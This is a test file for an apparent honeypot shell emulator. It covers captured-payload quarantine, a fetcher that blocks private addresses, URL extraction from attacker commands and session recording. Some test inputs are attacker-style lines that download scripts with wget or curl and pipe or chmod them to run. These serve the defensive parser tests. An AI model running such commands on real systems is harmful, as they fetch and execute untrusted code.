import { stat, readdir } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createFetcher, refusedAddress } from '../../../../../agent/services/shell/payloads/fetcher';
import { fileTypeOf } from '../../../../../agent/services/shell/payloads/magic';
import { openQuarantine, sha256Of } from '../../../../../agent/services/shell/payloads/quarantine';
import { fetchTargets } from '../../../../../agent/services/shell/emul/fetch-targets';
import { createMachine } from '../../../../../agent/services/shell/emul/session';
import { createCastRecorder } from '../../../../../agent/services/shell/cast-recorder';
import { makeTmpDir } from '../../../../helpers/tmp-dir';

describe('fileTypeOf', () => {
  it.each([
    [[0x7f, 0x45, 0x4c, 0x46, 2], 'elf'],
    [[0x1f, 0x8b, 8], 'gzip'],
    [[0x50, 0x4b, 3, 4], 'zip'],
    [[0x4d, 0x5a, 0x90], 'pe'],
    [[...Buffer.from('#!/bin/sh\n')], 'shell-script'],
    [[...Buffer.from('#!/usr/bin/env python3\n')], 'python-script'],
    [[...Buffer.from('hello world\n')], 'text'],
    [[0, 1, 2, 3], 'data'],
    [[], 'empty'],
  ])('%j is %s', (bytes, type) => expect(fileTypeOf(Uint8Array.from(bytes))).toBe(type));
});

describe('quarantine', () => {
  it('keeps each hash once, mode 0600, and refuses past its caps without writing', async () => {
    const tmp = await makeTmpDir('decnet-quarantine-');
    try {
      const q = await openQuarantine(tmp.dir, { maxFileBytes: 10, maxTotalBytes: 15, maxFiles: 5 });
      const a = Buffer.from('12345678');
      expect(await q.put(a)).toEqual({ sha256: sha256Of(a), size: 8, fileType: 'text', stored: 'new' });
      expect((await q.put(a)).stored).toBe('known');
      expect((await q.put(Buffer.alloc(11, 0x41))).stored).toBe('too-large');
      expect((await q.put(Buffer.from('abcdefghi'))).stored).toBe('quarantine-full');
      expect(await readdir(tmp.dir)).toEqual([sha256Of(a)]);
      expect((await stat(q.pathOf(sha256Of(a)))).mode & 0o777).toBe(0o600);
      // Reopened, it remembers what it holds and its usage.
      const again = await openQuarantine(tmp.dir);
      expect(again.usedBytes()).toBe(8);
      expect((await again.put(a)).stored).toBe('known');
    } finally {
      await tmp.remove();
    }
  });
});

describe('refusedAddress', () => {
  it.each([
    ['127.0.0.1', false, 'not a public address'],
    ['127.0.0.1', true, null],
    ['::1', true, null],
    ['10.1.2.3', true, 'not a public address'],
    ['169.254.169.254', true, 'not a public address'],
    ['192.168.1.1', false, 'not a public address'],
    ['172.20.0.1', false, 'not a public address'],
    ['100.64.1.1', false, 'not a public address'],
    ['::ffff:10.0.0.1', false, 'not a public address'],
    ['fd00::1', false, 'not a public address'],
    ['fe80::1', false, 'not a public address'],
    ['224.0.0.1', false, 'not a public address'],
    ['8.8.8.8', false, null],
    ['2606:4700::1111', false, null],
  ])('%s (loopback allowed: %s) → %s', (addr, loop, want) => expect(refusedAddress(addr, loop)).toBe(want));
});

describe('createFetcher against a loopback server', () => {
  let server: http.Server;
  let base = '';
  let hits = 0;
  beforeAll(async () => {
    server = http.createServer((req, res) => {
      hits++;
      if (req.url === '/big') return res.end(Buffer.alloc(5000));
      if (req.url === '/to-private') {
        res.writeHead(302, { location: 'http://10.0.0.1/x' });
        return res.end();
      }
      if (req.url === '/hop') {
        res.writeHead(301, { location: '/ok' });
        return res.end();
      }
      res.setHeader('content-type', 'text/x-sh');
      res.end('#!/bin/sh\n');
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise<void>((r) => server.close(() => r())));
  const opts = { maxBytes: 1000, timeoutMs: 5000, maxRedirects: 2, allowLoopback: true };

  it('refuses loopback unless allowed, without connecting', async () => {
    const before = hits;
    const r = await createFetcher({ ...opts, allowLoopback: false })(`${base}/ok`);
    expect(r).toMatchObject({ ok: false, reason: 'refused-address', address: '127.0.0.1' });
    expect(hits).toBe(before);
  });
  it('fetches, follows a redirect and reports the type', async () => {
    const r = await createFetcher(opts)(`${base}/hop`);
    expect(r).toMatchObject({ ok: true, status: 200, contentType: 'text/x-sh' });
    expect(r.ok && r.body.toString()).toBe('#!/bin/sh\n');
  });
  it('stops at the size cap and at a redirect into a private network', async () => {
    expect(await createFetcher(opts)(`${base}/big`)).toMatchObject({ ok: false, reason: 'too-large' });
    expect(await createFetcher(opts)(`${base}/to-private`)).toMatchObject({ ok: false, reason: 'refused-address' });
  });
  it('refuses schemes other than http and https', async () => {
    expect(await createFetcher(opts)('ftp://127.0.0.1/x')).toMatchObject({ ok: false, reason: 'unsupported' });
  });
});

describe('fetchTargets', () => {
  it.each([
    ['cd /tmp; wget http://1.2.3.4/x.sh; chmod +x x.sh', ['http://1.2.3.4/x.sh']],
    ['wget -O /tmp/a -q 1.2.3.4/a && curl -s -o b http://h.example/b | sh', ['http://1.2.3.4/a', 'http://h.example/b']],
    ['busybox wget http://h/x; /usr/bin/curl -H "X: y" http://h/y', ['http://h/x', 'http://h/y']],
    ['wget $URL; curl "http://h/$X"; echo http://h/z', []],
    ['tftp -g -r x 1.2.3.4; wget ftp://h/x', []],
    [
      'wget "http://a/1" http://a/2 http://a/3 http://a/4 http://a/5',
      ['http://a/1', 'http://a/2', 'http://a/3', 'http://a/4'],
    ],
    ["wget 'unterminated", []],
  ])('%s', (line, want) => expect(fetchTargets(line)).toEqual(want));
});

describe('remembered fetches', () => {
  it('keep at most 8 MiB of bodies per connection (the oldest are forgotten)', () => {
    const m = createMachine({
      user: 'root',
      hostname: 'h',
      kernel: '6.1.0-26-amd64',
      distro: 'debian',
      users: ['root'],
    });
    const big = 'x'.repeat(3 * 1024 * 1024);
    for (const n of [1, 2, 3, 4]) m.remember(`http://a/${n}`, { ok: true, body: big, contentType: 'text/plain' });
    const sh = m.open('exec');
    // The first is gone: its wget falls back to the fake transfer's size; the newest keeps its body.
    expect(
      sh
        .run('wget -q -O /tmp/1 http://a/1; wc -c < /tmp/1')
        .chunks.map((c) => c.text)
        .join(''),
    ).not.toContain(String(big.length));
    expect(m.writtenFiles()).toEqual([]);
    sh.run('wget -q -O- http://a/4 > /dev/null');
    expect(sh.run('echo $?').chunks[0]?.text).toBe('0\n');
  });
});

describe('cast recorder', () => {
  it('writes an asciinema v2 cast and stops at its byte bound', () => {
    let t = 1_000_000;
    const r = createCastRecorder({
      cols: 100,
      rows: 30,
      term: 'xterm',
      title: 'root@h',
      now: () => t,
      maxBytes: 2_000,
    });
    r.output('$ ');
    t += 250;
    r.input('l');
    r.input('s'); // same instant: merged
    t += 1000;
    r.resize(120, 40);
    for (let i = 0; i < 100; i++) r.output('x'.repeat(50));
    const done = r.finish()!;
    expect(done.truncated).toBe(true);
    expect(done.cast.length).toBeLessThan(2_600);
    const [header, ...events] = done.cast
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as unknown);
    expect(header).toMatchObject({ version: 2, width: 100, height: 30, title: 'root@h (truncated)' });
    expect(events.slice(0, 3)).toEqual([
      [0, 'o', '$ '],
      [0.25, 'i', 'ls'],
      [1.25, 'r', '120x40'],
    ]);
    expect(createCastRecorder({ cols: 80, rows: 24, term: 'x', title: 't' }).finish()).toBeNull();
  });
});

describe('fetchTargets on random lines', () => {
  it('never throws and returns at most four http(s) URLs', () => {
    const alphabet = [
      'wget ',
      'curl ',
      'http://',
      'a',
      '/',
      ' ',
      ';',
      '|',
      '"',
      "'",
      '$',
      '(',
      ')',
      '-O',
      '\\',
      '`',
      '&&',
    ];
    let seed = 7;
    const rnd = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    for (let i = 0; i < 5_000; i++) {
      const line = Array.from(
        { length: 1 + Math.floor(rnd() * 30) },
        () => alphabet[Math.floor(rnd() * alphabet.length)],
      ).join('');
      const urls = fetchTargets(line);
      expect(urls.length).toBeLessThanOrEqual(4);
      for (const u of urls) expect(u).toMatch(/^https?:\/\//);
    }
  });
});
